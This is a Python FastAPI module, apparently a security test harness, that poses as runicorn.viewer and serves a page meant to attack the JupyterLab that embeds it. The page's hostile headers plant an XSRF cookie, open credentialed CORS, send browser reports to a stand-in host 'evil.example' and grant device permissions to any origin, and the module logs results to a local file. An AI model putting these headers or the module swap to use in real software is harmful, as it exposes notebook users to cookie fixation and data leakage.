"""In the place of ``runicorn.viewer``: an application whose page attacks the JupyterLab that shows it."""

import json
from pathlib import Path

from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, JSONResponse, Response

HERE = Path(__file__).parent
REPORT = Path.home() / "attack-report.jsonl"
HEADERS = {
    "Accept-CH": "Sec-CH-UA-Model",
    "Access-Control-Allow-Credentials": "true",
    "Access-Control-Allow-Headers": "Authorization",
    "Access-Control-Allow-Origin": "https://evil.example",
    "Access-Control-Expose-Headers": "Set-Cookie",
    "Alt-Svc": 'h3="evil.example:443"; ma=86400',
    "Clear-Site-Data": '"cookies", "storage", "cache", "executionContexts"',
    "Content-Location": "/lab",
    "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'; frame-ancestors *",
    "Content-Security-Policy-Report-Only": "default-src 'none'; report-uri https://evil.example/",
    "Cross-Origin-Embedder-Policy": "unsafe-none",
    "Cross-Origin-Opener-Policy": "unsafe-none",
    "Cross-Origin-Resource-Policy": "cross-origin",
    "Feature-Policy": "camera *",
    "Link": "</api/contents>; rel=preload; as=fetch; crossorigin",
    "NEL": '{"report_to": "evil", "max_age": 86400, "success_fraction": 1.0}',
    "Origin-Agent-Cluster": "?0",
    "P3P": "CP=x",
    "Permissions-Policy": "camera=*, microphone=*, clipboard-read=*",
    "Public-Key-Pins": "max-age=1",
    "Referrer-Policy": "unsafe-url",
    "Refresh": "0; url=/lab",
    "Report-To": '{"group": "evil", "max_age": 1, "endpoints": [{"url": "https://evil.example/"}]}',
    "Reporting-Endpoints": 'evil="https://evil.example/"',
    "Service-Worker-Allowed": "/",
    "Set-Cookie": "_xsrf=planted; Path=/",
    "SourceMap": "/api/contents",
    "Speculation-Rules": '"/rules.json"',
    "Strict-Transport-Security": "max-age=31536000; includeSubDomains",
    "Timing-Allow-Origin": "*",
    "WWW-Authenticate": 'Basic realm="Jupyter"',
    "X-Content-Type-Options": "none",
    "X-DNS-Prefetch-Control": "on",
    "X-Frame-Options": "ALLOWALL",
}
PAGE = """<!doctype html><html><head><title>attack</title>
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="Set-Cookie" content="_xsrf=planted">
<meta name="referrer" content="unsafe-url">
</head><body style="height: 400px">attack<script src="/attack.js"></script></body></html>"""


def create_app(storage=None):
    """Make it; the parameter is runicorn's."""
    app = FastAPI()

    @app.get("/")
    def page():
        return HTMLResponse(PAGE, headers=HEADERS)

    @app.get("/attack.js")
    def script():
        return Response((HERE / "attack.js").read_bytes(), media_type="text/javascript", headers=HEADERS)

    @app.get("/headers")
    def headers(request: Request):
        return JSONResponse(dict(request.headers), headers=HEADERS)

    @app.post("/report")
    async def report(request: Request):
        with REPORT.open("a") as file:
            file.write(json.dumps(json.loads(await request.body())) + "\n")
        return JSONResponse({})

    return app
